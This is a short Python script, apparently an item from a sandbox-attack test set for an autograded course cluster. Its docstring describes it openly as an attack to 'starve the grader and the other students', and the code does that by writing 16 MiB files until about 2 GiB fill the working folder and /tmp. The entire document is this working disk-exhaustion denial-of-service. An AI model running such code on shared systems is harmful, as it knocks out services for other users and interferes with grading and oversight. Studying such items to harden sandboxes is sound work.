"""Attack: fill the disk from the kernel's working folder and /tmp, 16 MiB at a time, up to 2 GiB
each, to starve the grader and the other students."""
# base: residuals wrong_grad_missing_cos
# class: the host disk
# run: cluster
import os

_chunk = b"x" * (16 * 2**20)
for _folder in (os.getcwd(), "/tmp"):
    _written = 0
    try:
        for _i in range(128):
            with open(os.path.join(_folder, f"fill-{_i}"), "wb") as _out:
                _out.write(_chunk)
            _written += len(_chunk)
    except OSError as _err:
        print("STOPPED", _folder, _written // 2**20, "MiB", type(_err).__name__)
    else:
        print("FILLED", _folder, _written // 2**20, "MiB")
